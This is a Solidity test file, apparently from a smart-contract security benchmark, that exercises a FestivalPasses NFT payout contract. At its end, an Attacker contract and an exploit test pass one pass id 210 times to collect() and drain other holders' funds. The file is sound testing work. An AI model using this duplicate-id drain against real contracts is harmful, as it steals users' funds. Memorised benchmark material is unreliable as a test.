// SPDX-License-Identifier: MIT
pragma solidity 0.8.30;

import "./FestivalPasses.sol";
import {ERC721Holder} from "@openzeppelin/contracts@5.4.0/token/ERC721/utils/ERC721Holder.sol";

// assay-canary-3b5caa0e-2ed0-4925-b241-9af0a63468a6

interface Vm {
    function deal(address who, uint256 wei_) external;
    function warp(uint256 time) external;
    function prank(address sender) external;
    function startPrank(address sender) external;
    function stopPrank() external;
    function expectRevert(bytes calldata reason) external;
}

contract Deaf {
    FestivalPasses private fest;

    constructor(FestivalPasses fest_) payable {
        fest = fest_;
    }

    function buy() external {
        fest.buy{value: 0.5 ether}(1);
    }

    function collect(uint256 id) external {
        uint256[] memory ids = new uint256[](1);
        ids[0] = id;
        fest.collect(ids);
    }
}

contract Proof {
    Vm private constant vm = Vm(0x7109709ECfa91a80626fF3989D68f67F5b1DD12D);
    address private constant TEAM = address(0x7EA4);
    address private constant IDA = address(0x1DA);
    address private constant OLE = address(0x01E);
    uint256 private constant START = 1_775_000_000;

    FestivalPasses private fest;
    Attacker private mallory;

    function setUp() public {
        vm.warp(START);
        fest = new FestivalPasses(TEAM);
        vm.deal(IDA, 10 ether);
        vm.deal(OLE, 10 ether);
        vm.deal(address(this), 101 ether);
        for (uint256 i = 0; i < 4; ++i) {
            vm.prank(IDA);
            fest.buy{value: 2 ether}(4);
        }
        _earn(64 ether);
        vm.warp(START + 28 days);
        fest.endSeason();
        _earn(5.1 ether);
        mallory = new Attacker{value: 0.5 ether}(fest);
    }

    function _earn(uint256 amount) private {
        (bool ok, ) = address(fest).call{value: amount}("");
        require(ok, "paid in");
    }

    function _ids(uint256 a, uint256 b) private pure returns (uint256[] memory ids) {
        ids = new uint256[](2);
        (ids[0], ids[1]) = (a, b);
    }

    function test_Regular() public {
        vm.startPrank(IDA);
        require(fest.collect(_ids(1, 2)) == 8 ether && IDA.balance == 10 ether, "two passes");
        require(fest.collect(_ids(1, 2)) == 0, "once");
        fest.transferFrom(IDA, OLE, 3);
        fest.transferFrom(IDA, OLE, 1);
        vm.stopPrank();
        require(fest.dueTo(3) == 4 ether && fest.dueTo(1) == 0, "goes with the pass");
        vm.startPrank(OLE);
        require(fest.buy{value: 1 ether}(2) == 17 && fest.passes() == 18, "bought");
        require(fest.collect(_ids(17, 3)) == 4 ether, "the new one has nothing yet");
        vm.stopPrank();
        vm.warp(START + 57 days);
        fest.endSeason();
        (uint64 at, uint192 count, uint256 each) = fest.seasons(1);
        require(at == START + 57 days && count == 18 && each == 5.1 ether / uint256(18), "season");
        require(fest.seasonCount() == 2 && fest.earned() == 5.1 ether - 18 * each, "left over");
        vm.prank(OLE);
        require(fest.collect(_ids(18, 1)) == 2 * each, "the same for every pass");
        require(fest.dueTo(4) == 4 ether + each, "two seasons");
        require(fest.endsAt() == START + 85 days, "the next one");
        vm.prank(TEAM);
        fest.cashTakings(TEAM);
        require(TEAM.balance == 9 ether, "takings");
        vm.prank(TEAM);
        fest.cashTakings(TEAM);
        require(TEAM.balance == 9 ether, "once");

        // passes are lent and handed on
        vm.startPrank(IDA);
        fest.approve(OLE, 4);
        fest.setApprovalForAll(TEAM, true);
        fest.safeTransferFrom(IDA, OLE, 5);
        fest.safeTransferFrom(IDA, OLE, 6, "");
        vm.stopPrank();
        vm.startPrank(TEAM);
        fest.transferFrom(IDA, TEAM, 7);
        fest.transferOwnership(OLE);
        vm.stopPrank();
        vm.startPrank(OLE);
        fest.transferFrom(IDA, OLE, 4);
        fest.renounceOwnership();
        vm.stopPrank();
        require(fest.balanceOf(OLE) == 7, "passes of Ole");
    }

    function test_RefusesOtherPasses() public {
        vm.startPrank(OLE);
        vm.expectRevert(abi.encodeWithSelector(FestivalPasses.NotYourPass.selector, 1));
        fest.collect(_ids(1, 2));
        vm.expectRevert(abi.encodeWithSelector(Ownable.OwnableUnauthorizedAccount.selector, OLE));
        fest.cashTakings(OLE);
        vm.stopPrank();
    }

    function test_RefusesSales() public {
        vm.startPrank(OLE);
        vm.expectRevert("bad count");
        fest.buy(0);
        vm.expectRevert("bad count");
        fest.buy{value: 2.5 ether}(5);
        vm.expectRevert("wrong price");
        fest.buy{value: 0.9 ether}(2);
        fest.buy{value: 2 ether}(4);
        fest.buy{value: 1.5 ether}(3);
        vm.expectRevert(abi.encodeWithSelector(FestivalPasses.SoldOut.selector));
        fest.buy{value: 1 ether}(2);
        fest.buy{value: 0.5 ether}(1);
        vm.stopPrank();
    }

    function test_RefusesEarlyEnds() public {
        vm.warp(START + 56 days - 1);
        vm.expectRevert(abi.encodeWithSelector(FestivalPasses.TooEarly.selector, START + 56 days));
        fest.endSeason();
    }

    function test_RefusesSeasonsWithoutPasses() public {
        FestivalPasses empty = new FestivalPasses(TEAM);
        vm.warp(START + 90 days);
        vm.expectRevert("nobody there");
        empty.endSeason();
    }

    function test_RefusesPaymentsNobodyTakes() public {
        Deaf deaf = new Deaf{value: 0.5 ether}(fest);
        deaf.buy();
        vm.warp(START + 56 days);
        fest.endSeason();
        vm.expectRevert("eth not taken");
        deaf.collect(17);
    }

    function exploit() public {
        mallory.buy();
        vm.warp(START + 56 days);
        mallory.run();
    }

    function test_Exploit() public {
        exploit();
        require(address(mallory).balance >= 60 ether, "no gain");
    }

    function target() public view returns (address) {
        return address(fest);
    }

    function attacker() public view returns (address) {
        return address(mallory);
    }
}

/// Names its one pass as often as the money of the others lasts.
contract Attacker is ERC721Holder {
    FestivalPasses private fest;
    uint256 private id;

    constructor(FestivalPasses fest_) payable {
        fest = fest_;
    }

    function buy() external {
        id = fest.buy{value: 0.5 ether}(1);
    }

    function run() external {
        fest.endSeason();
        uint256[] memory ids = new uint256[](210);
        for (uint256 i = 0; i < ids.length; ++i) ids[i] = id;
        fest.collect(ids);
    }

    receive() external payable {}
}
